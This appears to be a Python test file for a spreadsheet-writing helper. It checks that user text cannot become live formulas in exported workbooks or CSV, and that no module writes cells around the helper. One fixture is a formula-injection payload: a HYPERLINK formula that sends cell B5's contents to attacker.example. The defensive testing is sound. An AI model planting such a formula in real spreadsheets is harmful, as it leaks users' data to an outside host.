"""Cells of the spreadsheets we hand out: user text is text, and nothing writes around it."""

from __future__ import annotations

import ast
import datetime as dt
import io
import math
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from ntm.core.spreadsheet import CELL_MAX, csv_text, write_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B5,"Nguồn")'
TEXTS = [HYPERLINK, "=1+2", "+1", "-1", "@SUM(A1)", "\t=1+2", "\r=1+2", "#N/A", "#REF!", "="]


def saved_and_read(values):
    workbook = Workbook()
    for row, value in enumerate(values, start=1):
        write_cell(workbook.active, row, 1, value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return [row[0] for row in load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows()]


def test_text_is_written_as_a_text_cell_exactly_as_typed():
    cells = saved_and_read(TEXTS)
    assert [(c.value, c.data_type) for c in cells] == [(text, "s") for text in TEXTS]
    # As Excel marks a cell typed as '=1+2: editing it in Excel keeps it text.
    assert [c.quotePrefix for c in cells] == [True] * 7 + [False] * 2 + [True]


def test_numbers_dates_and_blanks_keep_their_type():
    moment = dt.datetime.fromisoformat("2021-09-25T08:30")  # a spreadsheet has no time zone
    cells = saved_and_read([3, -1.5, True, dt.date(2021, 9, 25), moment, None, math.nan, ""])
    assert [c.data_type for c in cells[:3]] == ["n", "n", "b"]
    assert [c.value for c in cells] == [
        3,
        -1.5,
        True,
        dt.datetime.fromisoformat("2021-09-25"),
        moment,
    ] + [None] * 3


def test_text_a_cell_cannot_hold_is_cleaned_not_refused():
    cells = saved_and_read(["a\x00b\x01c\x1fd\te\nf", "x" * (CELL_MAX + 10), _Lazy()])
    assert cells[0].value == "abcd\te\nf"
    assert cells[1].value == "x" * CELL_MAX
    assert (cells[2].value, cells[2].data_type) == ("=lazy", "s")


class _Lazy:
    def __str__(self) -> str:
        return "=lazy"


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_csv_text_prefixes_what_a_spreadsheet_would_run(text):
    assert csv_text(text) == "'" + text


def test_csv_text_leaves_plain_text_and_numbers_alone():
    assert [csv_text(v) for v in ("Báo cáo xã", "a=b", -1, 2.5, None)] == [
        "Báo cáo xã", "a=b", -1, 2.5, None,
    ]  # fmt: skip


# --- Nothing writes a cell around write_cell --------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]  # the ntm package
HELPER = ROOT / "core" / "spreadsheet.py"
#: The benchmark plays a user filling a template: it types constants, as a user would.
TYPES_LIKE_A_USER = {ROOT / "workbooks" / "bench.py"}
SHEETISH = re.compile(r"(sheet|^ws$|^worksheet)", re.IGNORECASE)


def _name(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return node.attr
    if isinstance(node, ast.Subscript):
        return _name(node.value)
    return ""


def cell_writes(source: str, name: str, *, types_like_a_user: bool = False) -> list[str]:
    """Places in a module that put a value into a spreadsheet cell without write_cell."""
    found = []
    for node in ast.walk(ast.parse(source)):
        where = f"{name}:{getattr(node, 'lineno', 0)}"
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            method, receiver = node.func.attr, _name(node.func.value)
            if method == "cell" and (
                len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)
            ):
                found.append(f"{where} .cell(row, column, value)")
            if method == "append" and SHEETISH.search(receiver):
                found.append(f"{where} {receiver}.append(...)")
        targets = node.targets if isinstance(node, ast.Assign) else []
        for target in targets:
            value = isinstance(target, ast.Attribute) and target.attr in ("value", "_value")
            if value and not types_like_a_user:
                found.append(f"{where} .{target.attr} = ...")
            if isinstance(target, ast.Subscript) and SHEETISH.search(_name(target.value)):
                found.append(f"{where} {_name(target.value)}[...] = ...")
    return found


def test_every_cell_ntm_writes_goes_through_write_cell():
    modules = [
        p
        for p in ROOT.rglob("*.py")
        if p != HELPER and "tests" not in p.parts and "migrations" not in p.parts
    ]
    assert len(modules) > 50
    writes = [
        w
        for p in sorted(modules)
        for w in cell_writes(
            p.read_text(encoding="utf-8"),
            str(p.relative_to(ROOT.parent)),
            types_like_a_user=p in TYPES_LIKE_A_USER,
        )
    ]
    assert writes == []


def test_the_guard_sees_each_way_round_the_helper():
    code = (
        "sheet.cell(1, 2, note)\nws.cell(row=1, column=2, value=note)\nws.append(row)\n"
        'self.sheet.append(row)\ncell.value = note\nsheet["A1"] = note\nsheet.cell(1, 2)\n'
    )
    assert sorted(w.split(" ", 1)[1] for w in cell_writes(code, "m")) == [
        ".cell(row, column, value)", ".cell(row, column, value)", ".value = ...",
        "sheet.append(...)", "sheet[...] = ...", "ws.append(...)",
    ]  # fmt: skip
    assert cell_writes("cell.value = 3\n", "m", types_like_a_user=True) == []
